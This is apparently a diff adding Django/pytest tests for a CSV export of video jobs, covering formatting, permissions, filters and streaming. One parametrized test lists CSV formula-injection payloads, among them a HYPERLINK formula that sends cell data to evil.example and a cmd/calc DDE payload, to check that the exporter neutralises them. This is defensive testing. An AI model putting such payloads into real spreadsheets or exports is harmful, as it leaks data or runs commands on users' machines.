@@ -1,0 +1,126 @@
+"""Jobs as a table: what a spreadsheet makes of it, and what it must not."""
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from rest_framework.test import APIClient
+
+from videos.api import csv_export
+from videos.models import Job, Status
+from videos.tests.factories import PAPER, JobFactory, UserFactory
+
+pytestmark = pytest.mark.django_db
+PATH = "/api/videos/export"
+
+
+@pytest.fixture
+def client():
+    return APIClient()
+
+
+def table(answer) -> list[dict[str, str]]:
+    assert answer.status_code == 200
+    return list(csv.DictReader(io.StringIO(answer.getvalue().decode("utf-8-sig"), newline="")))
+
+
+def test_a_finished_video_is_a_row_with_its_paper_and_addresses(client):
+    job = JobFactory(completed=True, duration=80.04, title="Wirkung von „Spaziergängen“, erklärt")
+    (row,) = table(client.get(PATH))
+    assert tuple(row) == csv_export.COLUMNS
+    assert (row["job_id"], row["status"], row["title"]) == (str(job.pk), "completed", job.title)
+    assert (row["journal"], row["year"], row["doi"]) == (PAPER["journal"], PAPER["year"], PAPER["doi"])
+    assert row["finished_utc"] == f"{job.finished_at:%Y-%m-%d %H:%M:%S}"
+    assert (row["video_seconds"], row["error_code"]) == ("80.0", "")
+    assert row["page_url"] == f"http://testserver/jobs/{job.pk}"
+    assert row["video_url"] == f"http://testserver/api/videos/{job.pk}/download"
+    assert row["transcript_url"] == f"http://testserver/api/videos/{job.pk}/transcript.txt"
+
+
+def test_a_job_without_a_video_has_empty_cells_or_its_error(client):
+    JobFactory(failed=True)
+    (failed,) = table(client.get(PATH))
+    assert (failed["error_code"], failed["video_url"], failed["journal"]) == ("paper_not_found", "", "")
+
+
+def test_it_is_a_file_that_spreadsheets_open(client):
+    JobFactory(title='A "quoted", title\nof two lines')
+    answer = client.get(PATH)
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer["Content-Disposition"].startswith('attachment; filename="hidden-hill-20')
+    content = answer.getvalue()
+    assert content.startswith(b"\xef\xbb\xbfjob_id,status,")
+    assert b'"A ""quoted"", title\nof two lines"' in content
+    assert content.endswith(b"\r\n")
+
+
+@pytest.mark.parametrize("accept", ["text/csv", "text/html", "*/*", "application/json"])
+def test_whatever_is_accepted_the_answer_is_the_table(client, accept):
+    assert client.get(PATH, headers={"Accept": accept})["Content-Type"].startswith("text/csv")
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+    ],
+)
+def test_no_cell_is_a_formula(client, title):
+    JobFactory(completed=True, title=title, paper=PAPER | {"journal": title, "doi": title})
+    (row,) = table(client.get(PATH))
+    assert [row["title"], row["journal"], row["doi"]] == [f"'{title}"] * 3
+
+
+def test_everybody_exports_their_own_jobs(client, settings):
+    settings.API_ALLOW_ANONYMOUS = False
+    assert client.get(PATH).status_code in (401, 403)
+    ada = UserFactory()
+    hers, _ = JobFactory(owner=ada), JobFactory(owner=UserFactory())
+    client.force_authenticate(ada)
+    assert [(row["job_id"], row["owner"]) for row in table(client.get(PATH))] == [(str(hers.pk), ada.username)]
+    client.force_authenticate(UserFactory(is_staff=True))
+    assert len(table(client.get(PATH))) == 2
+
+
+def test_the_filters_are_those_of_the_list(client):
+    failed, _ = JobFactory(failed=True), JobFactory()
+    assert [row["job_id"] for row in table(client.get(PATH, {"status": "failed"}))] == [str(failed.pk)]
+    assert len(table(client.get(PATH, {"pubmed_id": failed.pubmed_id}))) == 1
+    assert client.get(PATH, {"status": "no such"}).status_code == 400
+
+
+def test_every_job_is_in_it_once_newest_first_by_one_query(client, monkeypatch, django_assert_num_queries):
+    Job.objects.bulk_create(JobFactory.build(owner=None) for _ in range(7))  # all created at the same moment
+    JobFactory()
+    monkeypatch.setattr(csv_export, "_AT_ONCE", 3)
+    with django_assert_num_queries(1):
+        rows = table(client.get(PATH))
+    listed = [job["job_id"] for job in client.get("/api/videos").json()["results"]]
+    assert [row["job_id"] for row in rows] == listed
+    assert len(set(listed)) == 8
+
+
+def test_rows_are_sent_while_they_are_read(client, monkeypatch):
+    JobFactory.create_batch(4)
+    monkeypatch.setattr(csv_export, "_AT_ONCE", 2)
+    lines = iter(client.get(PATH).streaming_content)
+    assert next(lines).endswith(b"transcript_url\r\n")
+    assert next(lines).count(b"\r\n") == 1
+
+
+def test_an_operator_exports_the_jobs_chosen_in_the_admin():
+    client = Client()
+    client.force_login(UserFactory(is_staff=True, is_superuser=True))
+    chosen, _ = JobFactory(title="=1+1", status=Status.QUEUED), JobFactory()
+    answer = client.post("/admin/videos/job/", {"action": "export", "_selected_action": [str(chosen.pk)]})
+    (row,) = table(answer)
+    assert (row["job_id"], row["title"]) == (str(chosen.pk), "'=1+1")
+    assert answer["Content-Disposition"].startswith("attachment")
